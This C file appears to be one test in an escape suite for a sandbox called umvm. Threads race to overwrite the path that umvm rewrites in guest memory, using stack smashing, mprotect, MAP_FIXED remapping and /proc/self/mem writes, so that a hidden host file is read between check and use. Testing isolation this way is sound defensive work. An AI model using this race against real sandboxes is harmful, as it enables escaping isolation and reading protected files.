// SPDX-License-Identifier: GPL-2.0
/*
 * The rewritten path itself: a thread keeps opening /inside, a file of
 * the view, whose path umvm rewrites in guest memory for the host, while
 * other threads try to replace that memory with the hidden file's host
 * path between umvm's check and the host's read:
 * - the stack below the opener's stack pointer (where umvm once put it);
 * - umvm's scratch window (found in /proc/self/maps, or at its known
 *   address): written directly after mprotect, replaced by munmap and a
 *   MAP_FIXED mapping, written through /proc/self/mem, zapped by madvise.
 * Natively the hidden file is simply open()ed: it is there to be read.
 */
#include <pthread.h>
#include <signal.h>
#include <setjmp.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include "escape.h"

#define WINDOW		0x6d7600000000UL
#define WINDOW_SIZE	(16UL << 20)
#define STACK_SIZE	(256 * 1024)

static volatile long tries;
static char secret[4096], rel[4096];
static char *stack;

static void *opener(void *arg)
{
	(void)arg;
	while (!race_stop) {
		if (is_secret(open("/inside", O_RDONLY)))
			race_hits++;
		tries++;
	}
	return NULL;
}

/*
 * Overwrite every "/proc/" string in [p, p + len) with the secret's path
 * relative to the view's root, the opener's cwd: it is short enough to
 * fit where umvm's path was.
 */
static void smash(char *p, size_t len)
{
	size_t sl = strlen(rel) + 1;

	for (size_t i = 0; i + sl < len; i += 16)
		if (!memcmp(p + i, "/proc/", 6) || !memcmp(p + i, "/inside", 7))
			memcpy(p + i, rel, sl);
}

static void *attacker(void *arg)
{
	int mem = open("/proc/self/mem", O_RDWR);

	(void)arg;
	while (!race_stop) {
		/* The old place: below the opener's stack pointer. */
		smash(stack, STACK_SIZE - 4096);
		/* The window: unprotect it, replace it, write it anyway. */
		if (!mprotect((void *)WINDOW, WINDOW_SIZE, PROT_READ | PROT_WRITE))
			smash((char *)WINDOW, WINDOW_SIZE);
		if (!munmap((void *)WINDOW, 4096) &&
		    mmap((void *)WINDOW, 4096, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) !=
		    MAP_FAILED)
			for (int i = 0; i < 4096; i += 16)
				memcpy((char *)WINDOW + i, rel,
				       strlen(rel) + 1 < 16 ?
				       strlen(rel) + 1 : 16);
		madvise((void *)WINDOW, WINDOW_SIZE, MADV_DONTNEED);
		if (mem >= 0)
			for (unsigned long off = 0; off < 64 * 16384;
			     off += 16384)
				pwrite(mem, rel, strlen(rel) + 1,
				       (off_t)(WINDOW + off));
	}
	return NULL;
}

int main(void)
{
	pthread_attr_t attr;
	const struct racer racers[] = {
		{ .fn = opener, .attr = &attr },
		{ .fn = attacker }, { .fn = attacker },
	};

	snprintf(secret, sizeof(secret), "%s", env("SECRET"));
	snprintf(rel, sizeof(rel), "%s", env("SECRET_REL"));
	if (is_secret(open(secret, O_RDONLY)))
		escaped("open() of the hidden file's host path");
	stack = mmap(NULL, STACK_SIZE, PROT_READ | PROT_WRITE,
		     MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	pthread_attr_init(&attr);
	pthread_attr_setstack(&attr, stack, STACK_SIZE);
	race(racers, 3);
	if (race_hits)
		escaped("a rewritten path replaced between check and use");
	if (!tries)
		skip("the view has no /inside");
	blocked("%ld opens of /inside, none read the hidden file", tries);
}
